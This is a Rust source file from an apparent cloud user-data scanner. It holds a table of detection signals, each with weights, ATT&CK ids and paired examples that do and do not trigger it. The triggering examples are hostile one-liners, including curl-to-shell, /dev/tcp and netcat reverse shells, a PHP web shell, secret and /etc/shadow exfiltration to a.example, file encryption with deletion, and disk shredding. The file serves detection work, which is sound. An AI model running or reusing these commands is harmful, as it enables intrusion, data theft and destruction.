//! The signals: one table, from which judging and the documentation page both follow.

use std::fmt::Write;

/// One thing that a script may do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Signal {
    pub id: Id,
    pub title: &'static str,
    /// What it adds to the score, at most.
    pub weight: u32,
    /// Enough on its own, whatever else is there.
    pub critical: bool,
    /// MITRE ATT&CK techniques.
    pub attack: &'static [&'static str],
    /// Why it matters, what an honest script does instead, and what lowers the weight.
    pub why: &'static str,
    /// A user data that raises it; empty where none is short enough to be shown. A text that begins neither with `#`, `<` nor `Content-` is a shell script.
    pub fires: &'static str,
    /// A user data that looks like it and does not raise it.
    pub quiet: &'static str,
}

/// Makes the ids and the table from one list, so that neither can lack an entry of the other.
macro_rules! signals {
    ($($id:ident $text:literal, $title:literal, $weight:literal, $critical:literal, [$($attack:literal),*],
        $why:literal, fires $fires:literal, not $quiet:literal;)*) => {
        /// The id of a signal.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
        pub enum Id {
            $(#[doc = $title] $id,)*
        }

        impl Id {
            /// The id as findings and the documentation write it: `exe-01`.
            pub const fn as_str(self) -> &'static str {
                match self {
                    $(Id::$id => $text,)*
                }
            }
        }

        impl Id {
            /// The signal's entry in the table.
            pub const fn signal(self) -> &'static Signal {
                match self {
                    $(Id::$id => &Signal {
                        id: Id::$id, title: $title, weight: $weight, critical: $critical,
                        attack: &[$($attack),*], why: $why, fires: $fires, quiet: $quiet,
                    },)*
                }
            }
        }

        /// Every signal, by category.
        pub static SIGNALS: &[&Signal] = &[$(Id::$id.signal(),)*];
    };
}

#[rustfmt::skip]
signals! {
    Exe01 "exe-01", "Download piped to an interpreter", 25, false, ["T1059.004", "T1105"],
        "Whoever controls the host controls the instance, and nothing is left to look at. Counts 5 for a trusted host over https, 10 over http.",
        fires "curl https://a.example/x | sh",
        not "curl https://a.example/x | jq .";
    Exe02 "exe-02", "Downloaded text evaluated or sourced", 25, false, ["T1059.004"],
        "As exe-01, by way of eval, sh -c or source. Counts 5 for a trusted host over https.",
        fires "eval \"$(curl https://a.example/x)\"",
        not "eval \"$(ssh-agent)\"";
    Exe03 "exe-03", "Decoded text run by an interpreter", 60, false, ["T1027", "T1140"],
        "Encoding hides a script from whoever reads the user data. Counts less when a decoded file can be read here and is run later.",
        fires "echo ZWNobyBoaQo= | base64 -d | sh",
        not "echo aGk= | base64 -d > /etc/app.conf";
    Exe04 "exe-04", "Downloaded file made executable and run", 20, false, ["T1105", "T1222.002"],
        "Nothing when the file is verified by checksum or signature first, or comes from a trusted host.",
        fires "curl -o /opt/x https://a.example/x; chmod +x /opt/x; /opt/x",
        not "curl -o /opt/x https://get.docker.com/x; chmod +x /opt/x; /opt/x";
    Exe05 "exe-05", "Run from a temporary or hidden directory", 15, false, ["T1036.005"],
        "World-writable and hidden places are where droppers unpack.",
        fires "/dev/shm/x",
        not "/opt/app/bin/x";
    Exe06 "exe-06", "Run from a temporary or hidden directory in the background", 15, false, ["T1036.005"],
        "As exe-05, left running when the script is gone.",
        fires "nohup /tmp/x &",
        not "/opt/app/bin/x &";
    Exe07 "exe-07", "Content included from an untrusted URL", 30, false, ["T1105"],
        "What #include, write_files.source, ansible.pull or a configuration's replacement name is fetched and acted on at first boot.",
        fires "#include\nhttps://a.example/x",
        not "#include\nhttp://10.0.0.1/x";
    Exe08 "exe-08", "Code fetched or run by way of a signed system program", 50, false, ["T1218"],
        "mshta, regsvr32, rundll32 and their kind given a URL: there to slip past allow lists.",
        fires "<powershell>\nmshta https://a.example/x.hta\n</powershell>",
        not "<powershell>\nmshta C:\\app\\setup.hta\n</powershell>";
    Net01 "net-01", "Public IP address as a download or command host", 25, false, ["T1071.001"],
        "Services have names; throw-away hosts often do not.",
        fires "curl -O http://203.0.113.7/x",
        not "curl -O http://10.1.2.3/x";
    Net02 "net-02", "Paste, tunnel, onion or webhook host", 35, false, ["T1102"],
        "Anonymous hosting for payloads and for what is taken.",
        fires "curl -O https://pastebin.com/raw/x",
        not "curl -O https://www.example.com/raw/x";
    Net03 "net-03", "Shell connected to /dev/tcp", 60, true, ["T1059", "T1095"],
        "A reverse shell written in bash alone.",
        fires "bash -i >& /dev/tcp/a.example/1 0>&1",
        not "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done";
    Net04 "net-04", "Shell connected to a socket", 60, true, ["T1059", "T1095"],
        "A reverse or bind shell: nc -e, a pipe file, socat, or sockets of Python, Perl, PHP, Ruby, PowerShell and others.",
        fires "nc -e /bin/sh a.example 1",
        not "nc -z db 5432";
    Net05 "net-05", "Anonymising or tunnelling tool", 25, false, ["T1572"],
        "tor, frp, chisel, ngrok and the like open a way in past the firewall.",
        fires "apt-get install -y rathole",
        not "apt-get install -y openvpn";
    Net06 "net-06", "Code fetched without transport security", 10, false, ["T1105"],
        "Certificate check switched off, or plain http for what is then run.",
        fires "curl -k https://a.example/x -o x",
        not "curl -k https://localhost/x -o x";
    Net07 "net-07", "Network scanner or password guesser", 20, false, ["T1046"],
        "masscan, zgrab, pnscan, hydra: an instance that looks for others.",
        fires "#cloud-config\npackages: [masscan]",
        not "#cloud-config\npackages: [nginx]";
    Net08 "net-08", "Command and control or attack tool", 30, false, ["T1588.002"],
        "A post-exploitation, credential or phishing tool is fetched, installed or started. Honest only on a tester's own machine, so that it does not alert alone.",
        fires "apt-get install -y linpeas",
        not "apt-get install -y lynis";
    Net09 "net-09", "Spreads to the hosts that this one knows", 50, false, ["T1021.004"],
        "Names are read out of known_hosts or the shell history and logged in to one by one. No set-up asks another program's records where to go.",
        fires "for h in $(cut -d' ' -f1 /root/.ssh/known_hosts); do scp /opt/x root@$h:/opt/x; done",
        not "ssh-keyscan github.com >> /root/.ssh/known_hosts";
    Min01 "min-01", "Mining program", 50, false, ["T1496.001"],
        "A miner's name as a command, service or image, or one that is fetched, installed, built or renamed; 45 where it is only prepared; nothing where it is killed, blocked or removed.",
        fires "docker run -d a/xmrig",
        not "pkill xmrig";
    Min02 "min-02", "Mining protocol or settings", 60, true, ["T1496.001"],
        "A stratum URL, a mining algorithm, a donate level, a miner's configuration.",
        fires "/opt/x -o stratum+tcp://a.example:1",
        not "grep stratum+tcp:// /var/log/proxy.log";
    Min03 "min-03", "Mining pool host", 50, false, ["T1496.001"],
        "The registered domain of a pool or a name below it.",
        fires "/opt/x -o pool.minexmr.com:443",
        not "echo '0.0.0.0 pool.minexmr.com' >> /etc/hosts";
    Min04 "min-04", "Monero wallet address", 60, true, ["T1496.001"],
        "The shape of an address: 95 or 106 characters of base 58 that begin with 4 or 8.",
        fires "/opt/x -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZ123456789",
        not "/opt/x -u alice";
    Min05 "min-05", "Tuning that mining profits from", 15, false, ["T1496.001"],
        "Huge pages, model-specific registers, the NMI watchdog; 5 for huge pages beside a database or the like, which use them, too.",
        fires "modprobe msr",
        not "modprobe overlay";
    Def01 "def-01", "Kills competing programs", 50, false, ["T1489"],
        "Four or more names killed in one go, two of them miners, as miners do to each other; 35 where none is known as a miner.",
        fires "pkill -f 'xmrig|minerd|kinsing|kdevtmpfsi'",
        not "pkill nginx";
    Def02 "def-02", "Writes ld.so.preload", 60, false, ["T1574.006"],
        "A library loaded into every process: how user-land rootkits hide.",
        fires "echo /lib/x.so > /etc/ld.so.preload",
        not "echo /opt/lib > /etc/ld.so.conf.d/x.conf";
    Def03 "def-03", "Changes attributes of system, cron or ssh files", 20, false, ["T1222.002"],
        "chattr makes a foothold undeletable, or takes such protection off.",
        fires "chattr +i /etc/cron.d/x",
        not "chattr +C /var/lib/data";
    Def04 "def-04", "Stops a security agent", 30, false, ["T1562.001"],
        "Monitoring stopped, removed or blinded.",
        fires "systemctl stop falco",
        not "systemctl restart nginx";
    Def05 "def-05", "Firewall or mandatory access control switched off", 10, false, ["T1562.004"],
        "Common in honest scripts; context for what stands beside it.",
        fires "setenforce 0",
        not "setenforce 1";
    Def06 "def-06", "History or logs wiped", 25, false, ["T1070"],
        "Log files emptied, history switched off. 10 for the removal of the shell's history, which image builds do.",
        fires "unset HISTFILE",
        not "export HISTSIZE=10000";
    Def07 "def-07", "Processes, files or tools hidden", 50, false, ["T1564", "T1036"],
        "ps, ls and the like replaced or wrapped, mounts over entries of /proc: what only those do who must not be seen. 25 where a downloader or observer is only moved away.",
        fires "mount -o bind /opt/empty /proc/4242",
        not "mount -o remount,hidepid=2 /proc";
    Per01 "per-01", "Cron entry that downloads, decodes or runs from a temporary place", 35, false, ["T1053.003"],
        "Comes back for as long as the instance lives.",
        fires "echo '* * * * * curl https://a.example/x | sh' | crontab -",
        not "echo '0 3 * * * /usr/local/bin/backup' | crontab -";
    Per02 "per-02", "Crontab removed", 30, false, ["T1053.003"],
        "Clears the way for one's own.",
        fires "crontab -r",
        not "crontab -l";
    Per03 "per-03", "SSH key from a URL or for root", 20, false, ["T1098.004"],
        "A way back in that no launch key shows.",
        fires "echo 'ssh-rsa AAAA' >> /root/.ssh/authorized_keys",
        not "echo 'ssh-rsa AAAA' >> /home/deploy/.ssh/authorized_keys";
    Per04 "per-04", "Privileged account or password login", 20, false, ["T1136.001"],
        "A root password; 10 for sudo without a password, which honest scripts give their own users.",
        fires "echo root:x | chpasswd",
        not "echo deploy:x | chpasswd";
    Per05 "per-05", "Unit or start script that runs from a temporary or hidden place", 25, false, ["T1543.002"],
        "Persistence that points at what should not persist.",
        fires "printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/x.service",
        not "printf '[Service]\\nExecStart=/opt/x\\n' > /etc/systemd/system/x.service";
    Per06 "per-06", "Set-uid shell or program made for it", 50, false, ["T1548.001"],
        "A copy of a shell, an interpreter, or something compiled or fetched here runs as root for whoever starts it. Set-uid on programs that packages bring, as sandboxes need it, is honest.",
        fires "cp /bin/bash /usr/lib/.h; chmod 4755 /usr/lib/.h",
        not "chmod 4755 /opt/chromium/chrome-sandbox";
    Per07 "per-07", "Web shell", 60, false, ["T1505.003"],
        "A page that runs what a request says. 60 for the code itself or a known shell's name, 15 for any script page fetched from an untrusted host into a web root, as honest deployments do.",
        fires "echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/x.php",
        not "echo '<?php phpinfo(); ?>' > /var/www/html/info.php";
    Per08 "per-08", "Authentication module or its configuration replaced", 50, false, ["T1556.003"],
        "Whoever replaces a PAM module or lets pam_permit decide gets every password or needs none.",
        fires "cp /opt/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so",
        not "echo 'session required pam_limits.so' >> /etc/pam.d/common-session";
    Per09 "per-09", "Kernel module or driver from outside loaded", 35, false, ["T1547.006", "T1068"],
        "Code in the kernel sees and hides all. 25 where a build from source loads it, as some network drivers need; 50 for a driver that is known for its hole.",
        fires "curl -o /tmp/x.ko https://a.example/x.ko; insmod /tmp/x.ko",
        not "modprobe nvidia";
    Per10 "per-10", "Second account with user id 0", 50, false, ["T1136.001", "T1098"],
        "A second root under another name. Nothing needs one.",
        fires "useradd -o -u 0 svc",
        not "useradd -m -u 1001 svc";
    Crd01 "crd-01", "Instance or task credentials read", 15, false, ["T1552.005"],
        "The metadata service's credentials, which the SDKs read by themselves.",
        fires "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
        not "curl -s http://169.254.169.254/latest/meta-data/instance-id";
    Crd02 "crd-02", "Credential files read", 15, false, ["T1552.001"],
        "Cloud, SSH, container and password files read or packed.",
        fires "cat /root/.aws/credentials",
        not "cat /etc/os-release";
    Crd03 "crd-03", "Upload to a host outside AWS", 15, false, ["T1567"],
        "Data leaves; critical when the instance's credentials are read as well.",
        fires "curl -T /opt/x https://a.example/",
        not "curl -T /opt/x https://bucket.s3.amazonaws.com/x";
    Crd04 "crd-04", "Secret of the account sent away", 50, false, ["T1552", "T1567"],
        "What a secret store, IAM or the environment gives goes to a host outside. 20 where one value is put into a longer text, as enrolments do.",
        fires "aws secretsmanager get-secret-value --secret-id x | curl -d @- https://a.example/",
        not "aws secretsmanager get-secret-value --secret-id x > /etc/app/secret.json";
    Crd05 "crd-05", "Data sent in the names of DNS queries", 50, false, ["T1048"],
        "Names that are put together from encoded data or secrets leave through any resolver.",
        fires "dig $(base64 -w0 /etc/shadow).a.example",
        not "dig +short $(hostname).example.com";
    Dec01 "dec-01", "Nested encodings, a false type, or a disguised command", 20, false, ["T1027"],
        "Three or more layers, a label that does not fit the content, or a program's name spelled in pieces.",
        fires "c''ur''l -O https://a.example/x",
        not "curl -O https://a.example/x";
    Dec02 "dec-02", "Part that cannot be decoded", 0, false, ["T1027"],
        "Said so that silence is not taken for clean.",
        fires "Content-Type: multipart/mixed; boundary=b\nMIME-Version: 1.0\n\n--b\nContent-Type: text/x-shellscript\nContent-Transfer-Encoding: base64\nContent-Encoding: gzip\n\nH4sIAAAA\n--b--",
        not "Content-Type: multipart/mixed; boundary=b\nMIME-Version: 1.0\n\n--b\nContent-Type: text/x-shellscript\n\n#!/bin/sh\ntrue\n--b--";
    Dec03 "dec-03", "Too much work to inspect", 50, false, ["T1027", "T1499"],
        "The script was written to wear inspection out: its nesting, its copies or its size cost more steps than any honest one. What was found before counts, and the rest was only searched for telling lines.",
        fires "",
        not "for i in $(seq 1000); do echo $i; done";
    Dec04 "dec-04", "Template that builds text", 15, false, ["T1027"],
        "Commands put together from pieces; 0 for a value that only the instance knows, since what is not rendered is not clean.",
        fires "## template: jinja\n#cloud-config\nruncmd: [\"{{ 'cu' ~ 'rl' }} x\"]",
        not "#cloud-config\nruncmd: [\"curl x\"]";
    Dec05 "dec-05", "Made to pass a bound", 50, false, ["T1027", "T1562"],
        "Short enough to launch with, yet it unfolds to more than is read: padding, many parts, many layers. Nothing honest does.",
        fires "",
        not "#cloud-config\nfinal_message: up";
    Dec06 "dec-06", "Text that cannot be known is run", 0, false, ["T1059"],
        "An interpreter is given what a program prints at run time, so that nobody can tell from the user data what runs.",
        fires "/opt/vendor/print-setup | bash",
        not "bash /opt/vendor/setup.sh";
    Sup01 "sup-01", "Unsigned repository or added certificate authority", 20, false, ["T1195.002"],
        "Packages or certificates from a host that is not known are trusted without a check.",
        fires "yum install -y --nogpgcheck https://a.example/x.rpm",
        not "yum install -y git";
    Sup02 "sup-02", "Check that cannot fail", 15, false, ["T1195.002"],
        "A checksum or signature is compared and the answer ignored: what looks verified is not.",
        fires "sha256sum -c sums.txt || true",
        not "sha256sum -c sums.txt || exit 1";
    Sup03 "sup-03", "Container image from a registry that is not approved", 5, false, ["T1610", "T1204.003"],
        "User data starts an image that is neither the account's own, nor AWS's, nor named in the policy. 20 when it also gets the host: privileged, or with the root file system. Common, so that it never alerts alone.",
        fires "docker run -d docker.io/someone/app",
        not "docker run -d 111122223333.dkr.ecr.eu-west-1.amazonaws.com/app:1";
    Imp01 "imp-01", "Files encrypted and the originals removed", 50, false, ["T1486"],
        "Every file below a folder of data is encrypted and deleted. 25 where the folder is one of backups or not known, since backups are encrypted, too.",
        fires "find /home -type f | while read f; do openssl enc -aes-256-cbc -k k -in \"$f\" -out \"$f.x\" && rm \"$f\"; done",
        not "pg_dump app | gpg -e -r ops > /var/backups/app.sql.gpg";
    Imp02 "imp-02", "Disks or system folders overwritten", 50, false, ["T1561", "T1485"],
        "The root disk, all disks, or the system's own folders are overwritten or deleted. 25 for a whole disk that may be a scratch one.",
        fires "for d in $(lsblk -dno NAME); do shred /dev/$d; done",
        not "dd if=/dev/zero of=/dev/xvdf bs=1M count=10";
    Imp03 "imp-03", "Backups, snapshots or shadow copies deleted", 50, false, ["T1490"],
        "What would undo the damage is done away with. 20 for single snapshots, which rotations delete.",
        fires "<powershell>\nvssadmin delete shadows /all /quiet\n</powershell>",
        not "find /var/backups -mtime +14 -delete";
    Imp04 "imp-04", "Bucket or database deleted", 50, false, ["T1485"],
        "A whole bucket is emptied or a database deleted without a last snapshot. 25 where the launch fills in the bucket's name.",
        fires "aws s3 rb s3://corp-data --force",
        not "aws s3 rm s3://corp-data/tmp/ --recursive";
    Imp05 "imp-05", "Ransom note", 35, false, ["T1486", "T1491"],
        "A text that asks for money to get data back.",
        fires "echo 'Your files are encrypted. Pay 1 BTC.' > /root/README.txt",
        not "echo 'Disks are encrypted with LUKS.' > /etc/motd";
}

impl Id {
    /// `exe` of `exe-01`.
    pub fn category(self) -> &'static str {
        self.as_str().split('-').next().unwrap_or("")
    }
}

/// The signal of an id as it is written.
pub fn signal_of(id: &str) -> Option<&'static Signal> {
    SIGNALS.iter().copied().find(|signal| signal.id.as_str() == id)
}

/// The documentation page: every signal with an example that raises it and one that does not.
pub fn page() -> String {
    let mut page = String::from(
        "# Signals of user data\n\n\
        The inspection of user data adds up these signals. Each counts once, with its highest weight. A user data is\n\
        suspicious from 50 points, or with one critical signal. Below that the verdict is `signals`, and nothing is\n\
        sent. Several weak signals of one category add no more than 45 points; combinations add to the sum.\n\n\
        This page is written by the table in `src/user_data/signal/table.rs`; a test compares the two and runs every\n\
        example.\n\n\
        | id | what | weight | ATT&CK |\n|---|---|---|---|\n",
    );
    for signal in SIGNALS {
        let id = signal.id.as_str();
        let attack = signal.attack.join(" ");
        let _ = writeln!(page, "| [{id}](#{id}) | {} | {} | {attack} |", signal.title, weight(signal));
    }
    for signal in SIGNALS {
        let id = signal.id.as_str();
        let _ = write!(page, "\n## {id}\n\n{}, {}. {}\n", signal.title, weight(signal), signal.why);
        for (label, example) in [("Raises it", signal.fires), ("Does not", signal.quiet)] {
            if !example.is_empty() {
                let _ = write!(page, "\n{label}:\n\n```\n{example}\n```\n");
            }
        }
    }
    page
}

fn weight(signal: &Signal) -> String {
    if signal.critical { format!("{}, critical", signal.weight) } else { signal.weight.to_string() }
}
